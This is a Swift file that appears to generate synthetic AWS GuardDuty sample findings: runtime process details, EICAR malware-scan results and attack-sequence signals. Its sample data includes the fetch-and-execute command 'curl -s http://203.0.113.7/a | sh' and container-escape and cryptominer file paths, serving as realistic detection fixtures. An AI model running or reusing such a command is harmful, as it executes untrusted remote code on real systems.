import AWSClient
import JSON

extension GuardDutySample {
    /// The process that Runtime Monitoring saw; nothing for other sources.
    mutating func runtime() -> [String: JSONValue] {
        guard family.threatened == "Runtime" else { return [:] }
        let process: JSONValue = [
            "name": "curl", "executablePath": "/usr/bin/curl", "executableSha256": .string(dice.hex(64)),
            "namespacePid": 1_204, "pwd": "/tmp", "pid": .number(String(dice.number(2_000...60_000))),
            "startTime": .number(String(Int(order.time) - 900)), "uuid": .string(dice.hex(32)),
            "parentUuid": .string(dice.hex(32)), "user": "www-data", "userId": 33, "euid": 33,
            "lineage": [
                [
                    "startTime": .number(String(Int(order.time) - 90_000)), "namespacePid": 1, "userId": 0,
                    "name": "systemd", "pid": 1, "uuid": .string(dice.hex(32)), "executablePath": "/usr/lib/systemd",
                    "euid": 0, "parentUuid": .string(dice.hex(32)),
                ]
            ],
        ]
        return ["runtimeDetails": ["process": process, "context": context()]]
    }

    private mutating func context() -> JSONValue {
        switch family.name {
        case "KernelModuleLoaded":
            [
                "moduleName": "odd", "moduleFilePath": "/tmp/odd.ko", "moduleSha256": .string(dice.hex(64)),
            ]
        case "DockerSocketAccessed": ["socketPath": "/var/run/docker.sock"]
        case "RuncContainerEscape": ["runcBinaryPath": "/usr/sbin/runc"]
        case "CGroupsReleaseAgentModified": ["releaseAgentPath": "/sys/fs/cgroup/rdma/release_agent"]
        case "ContainerMountsHostDirectory":
            ["mountSource": "/", "mountTarget": "/host", "fileSystemType": "ext4", "flags": ["rw"]]
        case "NewLibraryLoaded": ["libraryPath": "/tmp/libodd.so"]
        case "SuspiciousCommand": ["commandLineExample": "curl -s http://203.0.113.7/a | sh"]
        case "SuspiciousTool": ["toolName": "nmap", "toolCategory": "Network Scanner"]
        case "SensitiveFileModified": ["threatFilePath": "/etc/passwd"]
        case "MaliciousFileExecuted", "MaliciousFileExecuted.Custom": ["threatFilePath": "/tmp/xmrig"]
        default: [:]
        }
    }

    /// What a scan found.
    mutating func malware() -> [String: JSONValue] {
        let hash = dice.hex(64)
        let isSuspicious = family.name.hasPrefix("SuspiciousFile")
        let threat = isSuspicious ? "Suspicious.File" : "EICAR-Test-File"
        switch family.kind {
        case .object, .snapshot, .image, .recoveryPoint, .bucketRecoveryPoint:
            return [
                "malwareScanDetails": [
                    "scanId": .string(dice.hex(32)), "scanType": "GUARDDUTY_INITIATED", "uniqueThreatCount": 1,
                    "threats": [
                        [
                            "name": .string(threat), "source": "AMAZON", "count": 1, "hash": .string(hash),
                            "itemPaths": [["nestedItemPath": "a.zip/eicar.com", "hash": .string(hash)]],
                        ]
                    ],
                ]
            ]
        default:
            let severity = isSuspicious ? "MEDIUM" : "HIGH"
            return [
                "ebsVolumeScanDetails": [
                    "scanId": .string(dice.hex(32)), "scanStartedAt": .number(String(Int(order.time) - 3_600)),
                    "scanCompletedAt": .number(String(Int(order.time) - 3_000)),
                    "triggerFindingId": .string(dice.hex(32)), "sources": ["Bitdefender"],
                    "scanType": "GUARDDUTY_INITIATED",
                    "scanDetections": [
                        "scannedItemCount": ["totalGb": 12, "files": 154_203, "volumes": 1],
                        "threatsDetectedItemCount": ["files": 1],
                        "highestSeverityThreatDetails": [
                            "severity": .string(severity), "threatName": .string(threat), "count": 1,
                        ],
                        "threatDetectedByName": [
                            "itemCount": 1, "uniqueThreatNameCount": 1, "shortened": false,
                            "threatNames": [
                                [
                                    "name": .string(threat), "severity": .string(severity), "itemCount": 1,
                                    "filePaths": [
                                        [
                                            "filePath": "tmp/eicar.com", "hash": .string(hash), "fileName": "eicar.com",
                                            "volumeArn": .string(named("ec2", "volume/vol-\(dice.hex(17))")),
                                        ]
                                    ],
                                ]
                            ],
                        ],
                    ],
                ]
            ]
        }
    }

    /// Signals about several resources that belong together.
    mutating func sequence() -> JSONValue {
        let subject = sequenceSubject()
        let signal: [String: JSONValue] = [
            "uid": .string(dice.hex(32)), "type": "FINDING", "name": "UnauthorizedAccess:IAMUser/MaliciousIPCaller",
            "description": "A call came from an address on a threat list.",
            "createdAt": .number(String(Int(order.time) - 7_200)), "updatedAt": .number(String(Int(order.time) - 600)),
            "firstSeenAt": .number(String(Int(order.time) - 7_200)),
            "lastSeenAt": .number(String(Int(order.time) - 600)), "severity": 8, "count": 2,
            "resourceUids": [subject["uid"] ?? ""], "actorIds": ["actor-1"], "endpointIds": ["endpoint-1"],
            "signalIndicators": [["key": "ATTACK_TACTIC", "values": ["Exfiltration"], "title": "Tactic"]],
        ]
        return [
            "sequence": [
                "uid": .string(dice.hex(32)), "description": .string("Several signals show \(type)."),
                "actors": [
                    [
                        "id": "actor-1",
                        "user": [
                            "name": "anna", "uid": .string(dice.identity("AIDA")), "type": "IAMUser",
                            "credentialUid": .string(dice.key("AKIA")), "account": ["uid": .string(order.account)],
                        ],
                    ]
                ],
                "endpoints": [
                    [
                        "id": "endpoint-1", "ip": .string(dice.address()),
                        "location": [
                            "city": "Amsterdam", "country": "Netherlands", "lat": .number("52.3759"),
                            "lon": .number("4.8975"),
                        ],
                    ]
                ], "resources": [subject], "signals": [.object(signal)],
                "sequenceIndicators": [["key": "ATTACK_TACTIC", "values": ["Exfiltration"], "title": "Tactic"]],
            ]
        ]
    }

    private mutating func sequenceSubject() -> JSONValue {
        let kinds = [
            "IAM": "ACCESS_KEY", "S3": "S3_BUCKET", "EKS": "EKS_CLUSTER", "ECS": "ECS_CLUSTER", "EC2": "EC2_INSTANCE",
        ]
        let drawn = [
            "IAM": dice.key("AKIA"), "S3": "reports-\(dice.hex(8))", "EKS": "production", "ECS": "shop",
            "EC2": "i-\(dice.hex(17))",
        ]
        let name = order.resource ?? drawn[family.threatened] ?? "unknown"
        let arn =
            switch family.threatened {
            case "S3": "arn:\(order.partition):s3:::\(name)"
            case "EKS": named("eks", "cluster/\(name)")
            case "ECS": named("ecs", "cluster/\(name)")
            case "EC2": named("ec2", "instance/\(name)")
            default: name
            }
        return [
            "uid": .string(arn), "name": .string(name), "accountId": .string(order.account),
            "resourceType": .string(kinds[family.threatened] ?? "ACCESS_KEY"), "region": .string(order.region),
            "service": .string(family.threatened.lowercased()), "cloudPartition": .string(order.partition),
            "tags": order.tagList(),
        ]
    }
}
